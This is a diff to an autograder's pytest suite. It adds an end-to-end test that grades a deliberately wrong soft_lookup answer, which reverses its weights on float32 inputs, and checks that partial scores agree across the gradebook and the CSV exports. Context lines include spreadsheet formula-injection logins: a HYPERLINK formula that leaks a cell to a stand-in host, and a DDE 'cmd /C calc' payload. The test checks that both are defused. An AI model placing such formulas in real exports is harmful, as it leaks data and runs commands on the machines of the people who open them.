@@ -4,13 +4,15 @@ from __future__ import annotations
 
 import csv
 
+import nbformat
 import pytest
 from nbgrader.api import Gradebook
 
 from autograder.course.settings import Settings
+from autograder.engine import judge
 from autograder.grading import export, grade
 
-from ..course_copy import make_course
+from ..course_copy import fill, grading_settings, make_course, reference_answers, released, submit
 
 pytestmark = pytest.mark.slow  # releases a course copy with nbgrader
 
@@ -92,3 +94,40 @@ def test_grades_are_safe_to_open_in_a_spreadsheet(tmp_path):
     assert by_login["'=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")"][5] == f"{maximum:g}"
     assert by_login["doe,jane"][5] == f"{maximum:g}" and by_login['say "hi"'][5] == f"{maximum:g}"
     assert by_login["minus"][0] == "'=cmd|' /C calc'!A0, -Ann" and by_login["minus"][5] == "0"
+
+
+#: soft_lookup right on every input but float32 ones (its weights reversed there).
+RIGHT_BUT_FLOAT32 = """def soft_lookup(query, keys, values, temperature=1.0):
+    if query.shape[-1] != keys.shape[-1]:
+        raise ValueError("the query and the keys must have the same number of features")
+    weights = torch.softmax(keys @ query / temperature, dim=-1)
+    if query.dtype == torch.float32:
+        weights = weights.flip(-1)
+    return weights @ values, weights
+"""
+
+
+def test_a_partial_score_is_the_same_in_the_gradebook_and_both_exports(tmp_path):
+    """Graded end to end: the hidden cell's share, as the cell's record says, in the gradebook, grades.csv and Canvas's."""
+    course = make_course(tmp_path, [ASSIGNMENT])
+    answers = dict(reference_answers(ASSIGNMENT), soft_lookup=RIGHT_BUT_FLOAT32)
+    submit(course, ASSIGNMENT, "alice", fill(released(course, ASSIGNMENT), answers))
+    summary = grade.autograde([ASSIGNMENT], grading_settings(course), progress=False)
+    assert not summary.failed, str(summary)
+
+    graded = nbformat.read(course / "autograded" / "alice" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+    cell = next(c for c in graded.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "test_soft_lookup_hidden")
+    record = judge.case_record(cell)
+    assert record is not None and 0 < record["score"] < record["points"], record
+    assert [c["name"] for c in record["cases"] if not c["passed"]] == ["float32 inputs"]
+    with Gradebook(grade.db_url(Settings.load(course))) as gb:
+        scores = {g.name: g.score for g in gb.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, "alice").grades}
+        total, maximum = gb.find_submission(ASSIGNMENT, "alice").score, gb.find_assignment(ASSIGNMENT).max_score
+    assert scores["test_soft_lookup_hidden"] == record["score"]
+    assert total == maximum - (record["points"] - record["score"]), (total, maximum, scores)
+
+    export.export(root=course)
+    canvas = {row[3]: row for row in csv.reader((course / "grades-canvas.csv").open())}
+    assert float(canvas["alice"][5]) == total
+    rows = list(csv.DictReader((course / "grades.csv").open()))
+    assert [float(r["score"]) for r in rows if r["student_id"] == "alice"] == [total]
